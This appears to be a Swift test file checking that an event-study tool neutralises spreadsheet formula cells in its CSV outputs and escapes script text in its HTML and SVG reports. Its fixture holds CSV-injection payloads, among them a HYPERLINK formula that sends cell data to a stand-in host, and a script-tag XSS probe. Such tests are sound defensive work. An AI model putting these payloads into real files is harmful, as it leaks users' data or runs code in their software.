import Foundation
import MarketData
import Testing

/// Event files are user data: cells a spreadsheet would execute are neutralised in every CSV the
/// study writes, and text reaching report.html or the charts is escaped.
@Suite struct CSVInjectionTests {
  @Test func formulaCellsAreNeutralisedInEveryReport() throws {
    let dir = try Binary.temporaryDirectory()
    let db = dir.appendingPathComponent("prices.sqlite").path
    #expect(try Binary.run(["ingest", "--db", db, "--quiet", Binary.sample("prices")]).status == 0)
    let events = dir.appendingPathComponent("evil.csv")
    let text = """
      event_id,date,time,timezone,ticker,type,direction,description
      "=HYPERLINK(""http://x.example/?""&A1)",2025-06-26,,,MP;=1+2,@SUM(A1:A9),-cmd,"+calc<script>alert(1)</script>"
      E2,2025-10-09,,,MP,"\ttab","\rcr","=2+3, with a comma"

      """
    try Data(text.utf8).write(to: events)
    let out = dir.appendingPathComponent("out")
    let r = try Binary.run([
      "study", "--db", db, "--events", events.path, "--out", out.path, "--group-by", "type", "--quiet",
    ])
    #expect(r.status == 0, "stderr: \(r.err)")
    var cells = 0
    for f in ["abnormal_returns.csv", "car.csv", "excluded.csv", "events.csv"] {
      let raw = try String(contentsOf: out.appendingPathComponent(f), encoding: .utf8)
      for record in try CSVText.parse(raw) {
        for cell in record.fields {
          cells += 1
          guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else {
            continue
          }
          #expect(Double(cell) != nil, "\(f) line \(record.line): executable cell \(cell.debugDescription)")
        }
      }
    }
    #expect(cells > 100)
    let used = try String(contentsOf: out.appendingPathComponent("events.csv"), encoding: .utf8)
    // The values are kept, behind a leading apostrophe.
    #expect(used.contains("'=HYPERLINK(\"\"http://x.example/?\"\"&A1)"))
    #expect(used.contains("'@SUM(A1:A9)"))
    #expect(used.contains("'-cmd"))
    #expect(used.contains("\"'=2+3, with a comma\""))
    let excluded = try String(contentsOf: out.appendingPathComponent("excluded.csv"), encoding: .utf8)
    #expect(excluded.contains("'=1+2"))
    // Negative numbers keep their sign.
    let car = try String(contentsOf: out.appendingPathComponent("car.csv"), encoding: .utf8)
    #expect(car.contains(",-"))
    // HTML and SVG escape the same text.
    let html = try String(contentsOf: out.appendingPathComponent("report.html"), encoding: .utf8)
    #expect(!html.contains("<script"))
    #expect(html.contains("type=@SUM(A1:A9)"))
    let svg = try String(contentsOf: out.appendingPathComponent("caar.svg"), encoding: .utf8)
    #expect(!svg.contains("<script"))
  }
}
